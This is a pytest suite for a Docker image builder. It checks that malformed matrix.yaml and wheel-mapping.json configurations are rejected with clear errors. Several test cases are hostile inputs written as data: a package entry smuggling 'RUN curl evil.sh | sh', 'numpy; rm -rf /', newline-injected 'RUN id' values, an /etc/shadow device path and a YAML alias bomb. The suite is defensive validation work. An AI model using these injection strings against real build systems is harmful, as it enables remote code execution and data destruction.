"""Invalid configurations as a new user writes them: each exits 2 with one line per problem
naming the file and the key, no traceback, and images/ left exactly as it was."""

from __future__ import annotations

import copy
import hashlib
import json
import sys
from pathlib import Path

import pytest
import yaml

from builder.cli import main

H64 = "a" * 64


def tree_hash(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(str(path.relative_to(folder)).encode())
        if path.is_file():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def run_cli(args: list[str], capsys, monkeypatch) -> tuple[int, str]:
    monkeypatch.setattr(sys, "argv", ["builder", *args])
    with pytest.raises(SystemExit) as exc:
        main()
    out = capsys.readouterr()
    assert isinstance(exc.value.code, int), exc.value.code
    return exc.value.code, out.err + out.out


def target(doc: dict, name: str) -> dict:
    return next(t for t in doc["targets"] if t["name"] == name)


def _set(path: str, value):
    """Mutation: set a dotted key path (targets[N] allowed) in the matrix."""

    def apply(doc: dict) -> None:
        node = doc
        parts = path.replace("[", ".").replace("]", "").split(".")
        for part in parts[:-1]:
            node = node[int(part)] if part.isdigit() else node.setdefault(part, {})
        last = parts[-1]
        if last.isdigit():
            node[int(last)] = value
        else:
            node[last] = value

    return apply


def _also(*mutations):
    def apply(doc: dict) -> None:
        for m in mutations:
            m(doc)

    return apply


# (id, mutation of the parsed matrix, or raw YAML text; substrings the error must contain)
MATRIX_CASES = [
    ("typo-top-level-key", _set("registy", "x/y"), ["matrix.yaml: registy: unknown key", "registry"]),
    ("typo-target-key", _set("targets[0].backnd", "cpu"), ["targets[0].backnd: unknown key", "backend"]),
    ("unknown-backend", _set("targets[1].backend", "cudaa"), ["targets[1].backend", "'cuda', 'rocm', 'xpu' or 'cpu'"]),
    ("unquoted-version-float", _set("targets[2].version", 11.8), ["targets[2].version", "write it in quotes: '11.8'"]),
    ("torch-not-on-index", _set("targets[2].torch", "2.8.0"), ["targets[2].torch", "not published for cu118", "<=2.7.1"]),
    ("no-wheel-entry", _set("targets[1].version", "12.9"), ["targets[1].version", "no wheel-mapping.json entry",
                                                           "11.8"]),
    ("duplicate-name", _set("targets[1].name", "cpu"), ["targets: duplicate name(s) cpu"]),
    ("duplicate-tag", _set("targets[1].tags", ["cpu-torch2.13.0"]), ["targets[1].tags", "also a tag of target 'cpu'"]),
    ("bad-tag-grammar", _set("targets[0].tags", ["My Tag"]), ["targets[0].tags[0]", "'My Tag' is not a Docker tag"]),
    ("uppercase-name", _set("targets[0].name", "CPU"), ["targets[0].name", "'CPU' is not a target name"]),
    ("unpinned-base-image", _set("base", {"image": "debian:bookworm", "suite": "bookworm"}),
     ["base.image", "not pinned by digest", "--allow-unpinned"]),
    ("base-image-and-bootstrap", _set("base.image", f"debian@sha256:{H64}"), ["base", "exactly one of 'image'"]),
    ("python-unsupported", _set("python", "3.12"), ["python: '3.12' is not supported with suite 'bookworm'", "3.11"]),
    ("python-float", _set("python", 3.11), ["python", "write it in quotes: '3.11'"]),
    ("newline-in-package", _set("targets[0].packages", ["numpy\nRUN curl evil.sh | sh"]),
     ["targets[0].packages[0]", "not a pip requirement"]),
    ("shell-metachar-in-package", _set("common_packages", ["numpy; rm -rf /"]),
     ["common_packages[0]", "not a pip requirement"]),
    ("url-requirement", _set("torch_packages", ["evil @ https://x.example/e.whl"]), ["torch_packages[0]"]),
    ("quote-in-label", _set("targets[0].labels", {"team": 'ml" \\\nRUN id'}), ["targets[0].labels.team",
                                                                              "not a label value"]),
    ("bad-label-key", _set("targets[0].labels", {"Team Name": "x"}), ["targets[0].labels.Team Name (key)"]),
    ("registry-without-repo", _set("registry", "localhost:5000"), ["registry: 'localhost:5000' is not host[:port]/"]),
    ("mirror-not-url", _set("base.bootstrap.mirror", "deb.debian.org/debian"), ["base.bootstrap.mirror", "URL"]),
    ("bootstrap-without-venv", _set("base.bootstrap.packages", ["python3"]), ["base.bootstrap", "python3-venv"]),
    ("unknown-suite", _set("base.bootstrap.suite", "buster"), ["base.bootstrap", "suite 'buster' is not supported"]),
    ("negative-epoch", _set("base.bootstrap.source_date_epoch", -5), ["base.bootstrap.source_date_epoch",
                                                                       "greater than or equal to 0"]),
    ("group-unknown-target", _set("groups", {"default": ["cpu", "nvidia-cu999"]}),
     ["groups.default: unknown target(s) nvidia-cu999"]),
    ("torch-with-local-suffix", _set("targets[0].torch", "2.13.0+cpu"), ["targets[0]", "without a local suffix"]),
    ("no-targets", _set("targets", []), ["targets", "at least 1 item"]),
    ("retired-key", _set("wheelhouse_port", 38611), ["wheelhouse_port", "unknown key"]),
    ("installer-not-uv", _set("installer", "pip==24.0"), ["installer: 'pip==24.0' must pin uv exactly"]),
    ("target-is-string", _set("targets[0]", "cpu"), ["targets[0]", "valid dictionary"]),
    ("missing-torch", lambda d: d["targets"][0].pop("torch"), ["targets[0].torch: required key is missing"]),
    ("missing-registry", lambda d: d.pop("registry"), ["registry: required key is missing"]),
    ("two-problems-two-lines", _also(_set("targets[0].backend", "tpu"), _set("targets[1].torch", "two")),
     ["targets[0].backend", "targets[1].torch"]),
    ("yaml-syntax", "registry: [unclosed\n", ["matrix.yaml (line 2, column 1)"]),
    ("yaml-alias-bomb", "a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: [*b, *b, *b]\n", ["aliases (*name) are not allowed"]),
    ("yaml-duplicate-key", "registry: a/b\nregistry: c/d\n", ["duplicate key 'registry'"]),
    ("top-level-list", "- cpu\n- cuda\n", ["top level must be a mapping", "not a list"]),
    ("empty-file", "", ["top level must be a mapping", "not empty"]),
    ("deep-nesting", "a: " + "[" * 5000 + "]" * 5000 + "\n", ["matrix.yaml"]),
    ("binary-file", b"\xff\xfe\x00bad", ["not UTF-8"]),
    # Silent overrides: a value the builder would override, contradict or ignore.
    ("label-the-builder-sets", _set("targets[0].labels", {"org.opencontainers.image.version": "v9"}),
     ["targets[0].labels.org.opencontainers.image.version: the builder sets this label itself"]),
    ("label-of-the-builder-prefix", _set("targets[0].labels", {"io.ml-image-builder.torch": "2.0"}),
     ["targets[0].labels.io.ml-image-builder.torch: the builder sets this label itself"]),
    ("tag-generated-anyway", _set("targets[0].tags", ["cpu-torch2.13.0"]),
     ["targets[0].tags: 'cpu-torch2.13.0' is a generated tag of this target already"]),
    ("torch-in-target-packages", _set("targets[0].packages", ["torch==2.5.0"]),
     ["targets[0].packages[0]: 'torch==2.5.0': torch comes from the target's 'torch' key"]),
    ("torch-in-torch-packages", _set("torch_packages", ["accelerate>=1.0", "torch"]),
     ["torch_packages[1]: 'torch'"]),
    ("common-package-in-target", _set("targets[0].packages", ["numpy==2.1"]),
     ["targets[0].packages[0]: 'numpy==2.1' is in common_packages too"]),
    ("empty-group", _set("groups", {"gpu": []}), ["groups.gpu: an empty group selects no target"]),
    ("group-named-like-a-target", _set("groups", {"cpu": ["cpu"]}), ["groups.cpu: a target has this name too"]),
    ("group-lists-twice", _set("groups", {"g": ["cpu", "cpu"]}), ["groups.g: ['cpu', 'cpu'] names a target twice"]),
    ("layer-shadowed", lambda d: d["layers"].insert(4, {"name": "nccl", "match": ["nvidia-nccl*"],
                                                        "backends": ["cuda"]}),
     ["layers[4] (nccl): nvidia-nccl* always match(es) an earlier layer first"]),
    ("layer-no-backend", lambda d: d["layers"].append({"name": "extra", "match": ["foo"], "backends": []}),
     ["backends: [] applies to no target"]),
    ("base-suite-ignored-with-bootstrap", _set("base.suite", "trixie"),
     ["matrix.yaml: base: suite: 'trixie' is ignored with 'bootstrap'", "set base.bootstrap.suite"]),
    ("bootstrap-variant-without-useradd", _set("base.bootstrap.variant", "essential"),
     ["matrix.yaml: base.bootstrap: variant: essential has no groupadd/useradd", "add passwd to packages"]),
    ("startup-imports-none", _set("startup_imports", []),
     ["matrix.yaml: startup_imports: [] leaves the build's start-up step 'import' with no module"]),
    ("startup-import-of-some-targets", _also(_set("targets[1].packages", ["transformers>=4"]),
                                             _set("startup_imports", ["torch", "transformers"])),
     ["matrix.yaml: startup_imports[1]: 'transformers' is installed only by the packages of nvidia-cu130",
      "cpu, nvidia-cu118"]),
    ("platforms-for-no-target", lambda d: [t.update(platforms=["linux/amd64"]) for t in d["targets"]],
     ["matrix.yaml: platforms: ['linux/amd64'] applies to no target (every target names its own platforms)"]),
    ("k8s-resource-of-another-vendor", _set("targets[1].k8s_resource", "amd.com/gpu"),
     ["matrix.yaml: targets[1]: k8s_resource: amd.com/gpu is not a resource of backend cuda"]),
]


@pytest.fixture
def valid_doc(project: Path) -> dict:
    return yaml.safe_load((project / "matrix.yaml").read_text())


@pytest.mark.parametrize(("case", "mutation", "expected"), MATRIX_CASES, ids=[c[0] for c in MATRIX_CASES])
def test_invalid_matrix(case, mutation, expected, project, valid_doc, capsys, monkeypatch):
    before = tree_hash(project / "images")
    path = project / "matrix.yaml"
    if isinstance(mutation, bytes):
        path.write_bytes(mutation)
    elif isinstance(mutation, str):
        path.write_text(mutation)
    else:
        doc = copy.deepcopy(valid_doc)
        mutation(doc)
        path.write_text(yaml.safe_dump(doc, sort_keys=False, allow_unicode=True))
    code, output = run_cli(["render", "--matrix", str(path)], capsys, monkeypatch)
    assert code == 2, output
    assert "Traceback" not in output
    lines = [ln for ln in output.splitlines() if ln.strip()]
    assert lines and all(ln.startswith("error: ") for ln in lines), output
    assert all("matrix.yaml" in ln or "wheel-mapping" in ln for ln in lines), output
    for text in expected:
        assert text in output, f"{text!r} not in {output!r}"
    assert tree_hash(project / "images") == before, "images/ changed on an invalid config"


MAPPING_CASES = [
    ("mapping-unknown-backend", lambda m: m["entries"]["cpu"].update(backend="tpu"), ["entries.cpu.backend"]),
    ("mapping-url-with-space", lambda m: m["entries"]["cu118"].update(index_url="https://x y/"),
     ["entries.cu118.index_url"]),
    ("mapping-bad-range", lambda m: m["entries"]["cu118"].update(torch="2.0 to 2.7"), ["entries.cu118.torch",
                                                                                       "not a version range"]),
    ("mapping-env-injection", lambda m: m["vendors"]["nvidia"]["env"].update(X="a\nRUN id"),
     ["vendors.nvidia.env.X", "not an env value"]),
    ("mapping-env-name", lambda m: m["vendors"]["nvidia"]["env"].update({"A B": "x"}), ["vendors.nvidia.env.A B (key)"]),
    ("mapping-device-path", lambda m: m["vendors"]["amd"]["run"].update(devices=["/etc/shadow"]),
     ["vendors.amd.run.devices[0]", "not a /dev path"]),
    ("mapping-torch-in-packages", lambda m: m["entries"]["cu118"].update(packages=["torch==2.0.1"]),
     ["entries.cu118.packages[0]: 'torch==2.0.1': torch comes from"]),
    ("mapping-duplicate-pair", lambda m: m["entries"].update(cu118b=dict(m["entries"]["cu118"])),
     ["same backend and version as entries.cu118"]),
    # Silent overrides: a variable the builder sets itself, a suffix the entry contradicts.
    ("mapping-env-path", lambda m: m["vendors"]["nvidia"]["env"].update(PATH="/usr/local/cuda/bin:/usr/bin"),
     ["wheel-mapping.json: vendors.nvidia.env.PATH: the builder sets this variable itself"]),
    ("mapping-env-virtual-env", lambda m: m["vendors"]["amd"].update(env={"VIRTUAL_ENV": "/opt/rocm"}),
     ["wheel-mapping.json: vendors.amd.env.VIRTUAL_ENV: the builder sets this variable itself"]),
    ("mapping-env-runtime", lambda m: m["vendors"]["cpu"].update(env={"ML_RUNTIME_TORCH": "2.0"}),
     ["wheel-mapping.json: vendors.cpu.env.ML_RUNTIME_TORCH: the builder sets this variable itself"]),
    ("mapping-env-build-argument", lambda m: m["vendors"]["intel"].update(env={"WHEELS_TORCH": "x"}),
     ["wheel-mapping.json: vendors.intel.env.WHEELS_TORCH: the builder sets this variable itself"]),
    ("mapping-suffix-of-another-build", lambda m: m["entries"]["cu118"].update(local_version="+cu121"),
     ["wheel-mapping.json: entries.cu118.local_version: '+cu121' is the suffix of another build than cuda 11.8",
      "write '+cu118'"]),
    ("mapping-suffix-of-another-backend", lambda m: m["entries"]["xpu"].update(local_version="+cpu"),
     ["entries.xpu.local_version: '+cpu' is the suffix of another build than xpu; write '+xpu'"]),
    ("mapping-suffix-on-pypi", lambda m: m["entries"]["cu130"].update(local_version="+cu130"),
     ["wheel-mapping.json: entries.cu130.local_version: '+cu130': https://pypi.org/simple publishes no local",
      "write '' or point index_url"]),
]


@pytest.mark.parametrize(("case", "mutation", "expected"), MAPPING_CASES, ids=[c[0] for c in MAPPING_CASES])
def test_invalid_wheel_mapping(case, mutation, expected, project, capsys, monkeypatch):
    before = tree_hash(project / "images")
    path = project / "wheel-mapping.json"
    mapping = json.loads(path.read_text())
    mutation(mapping)
    path.write_text(json.dumps(mapping))
    code, output = run_cli(["render", "--matrix", str(project / "matrix.yaml")], capsys, monkeypatch)
    assert code == 2, output
    assert "Traceback" not in output
    assert "wheel-mapping.json" in output
    for text in expected:
        assert text in output, f"{text!r} not in {output!r}"
    assert tree_hash(project / "images") == before


def test_duplicate_json_key(project, capsys, monkeypatch):
    (project / "wheel-mapping.json").write_text('{"vendors": {}, "vendors": {}}')
    code, output = run_cli(["render", "--matrix", str(project / "matrix.yaml")], capsys, monkeypatch)
    assert code == 2 and "wheel-mapping.json: duplicate key 'vendors'" in output


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["render", "--target", "tpu"], "--target: unknown target 'tpu'"),
        (["print", "--index", "rocm5.7=not a url"], "not a valid index URL for rocm5.7"),
        (["print", "--index", "rocm9=https://m.example/whl"], "--index: unknown entry rocm9"),
        (["print", "--index", "nonsense"], "expected KEY=URL"),
        (["matrix", "--group", "nightly"], "--group: unknown group 'nightly'"),
        (["render", "--matrix", "missing.yaml"], "missing.yaml: file not found"),
    ],
)
def test_bad_cli_input(args, expected, project, capsys, monkeypatch):
    monkeypatch.chdir(project)
    before = tree_hash(project / "images")
    code, output = run_cli(args, capsys, monkeypatch)
    assert code == 2, output
    assert expected in output and "Traceback" not in output
    assert tree_hash(project / "images") == before


def test_index_from_environment(project, capsys, monkeypatch):
    monkeypatch.chdir(project)
    monkeypatch.setenv("BUILDER_INDEX_ROCM5_7", "https://mirror.example/whl/rocm5.7")
    code, output = run_cli(["print", "--target", "amd-rocm5.7"], capsys, monkeypatch)
    assert code in (0, None)
    assert json.loads(output)["targets"][0]["index_url"] == "https://mirror.example/whl/rocm5.7"


def test_missing_base_lock_is_a_clear_error(project, capsys, monkeypatch):
    (project / "base.lock.json").unlink()
    code, output = run_cli(["render", "--matrix", str(project / "matrix.yaml")], capsys, monkeypatch)
    assert code == 2 and "base.lock.json: missing; run 'builder base --platform linux/amd64'" in output


def test_edited_lock_cannot_inject(project, capsys, monkeypatch):
    lock = json.loads((project / "base.lock.json").read_text())
    pinned = lock["platforms"]["linux/amd64"]
    pinned["reference"] = pinned["reference"] + "\nRUN id"
    (project / "base.lock.json").write_text(json.dumps(lock))
    code, output = run_cli(["render", "--matrix", str(project / "matrix.yaml")], capsys, monkeypatch)
    assert code == 2 and "base.lock.json: platforms.linux/amd64.reference" in output


def test_valid_inputs_keep_working_extras_crlf_bom(project, valid_doc):
    """The refusals above must not catch valid input: extras, CRLF line ends, a UTF-8 BOM."""
    from builder.config.project import load_project

    doc = copy.deepcopy(valid_doc)
    doc["torch_packages"] = ["accelerate[testing]>=1.0"]
    text = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True).replace("\n", "\r\n")
    (project / "matrix.yaml").write_bytes("\ufeff".encode() + text.encode())
    mapping = project / "wheel-mapping.json"
    mapping.write_bytes("\ufeff".encode() + mapping.read_text().replace("\n", "\r\n").encode())
    proj = load_project(project / "matrix.yaml")
    assert proj.matrix.torch_packages == ["accelerate[testing]>=1.0"] and proj.targets


def test_valid_neighbours_of_the_refusals(project, valid_doc):
    """What the refusals must let through: a custom local suffix, a vendor variable of its own, a
    bootstrap variant with passwd, a start-up module every target's packages install, a target's
    own platforms beside the top level's."""
    from builder.config.project import load_project

    doc = copy.deepcopy(valid_doc)
    doc["base"]["bootstrap"]["variant"] = "apt"
    doc["base"]["bootstrap"]["packages"].append("passwd")
    for t in doc["targets"]:
        t["packages"] = ["transformers>=4"]
    doc["startup_imports"] = ["torch", "transformers"]
    doc["layers"].append({"name": "hf", "match": ["transformers"]})
    doc["targets"][0]["platforms"] = ["linux/amd64"]
    (project / "matrix.yaml").write_text(yaml.safe_dump(doc, sort_keys=False))
    path = project / "wheel-mapping.json"
    mapping = json.loads(path.read_text())
    mapping["entries"]["cu118"]["local_version"] = "+cu118.site"
    mapping["vendors"]["nvidia"]["env"]["NCCL_DEBUG"] = "WARN"
    path.write_text(json.dumps(mapping))
    proj = load_project(project / "matrix.yaml", allow_unpinned=True)
    assert proj.target("nvidia-cu118").torch_pin == "2.7.1+cu118.site"
    assert proj.target("nvidia-cu130").env["NCCL_DEBUG"] == "WARN"


def test_reserved_env_covers_the_template(project):
    """Every ENV and ARG the Dockerfile template writes itself is one a vendor's env may not set."""
    import re

    from builder.config.project import load_project
    from builder.config.wheelmap import BUILDER_ENV, BUILDER_ENV_PREFIXES
    from builder.images import render

    proj = load_project(project / "matrix.yaml")
    for target in proj.targets:
        text = next(iter(render.render(proj, [target]).values())).replace("\\\n", " ")
        names = set(re.findall(r"^ARG ([A-Z_][A-Z0-9_]*)", text, re.MULTILINE))
        for line in re.findall(r"^ENV (.*)$", text, re.MULTILINE):
            names |= set(re.findall(r"(?:^| )([A-Z_][A-Z0-9_]*)=", line))
        own = names - set(target.env)
        assert own and all(n in BUILDER_ENV or n.startswith(BUILDER_ENV_PREFIXES) for n in own), sorted(own)
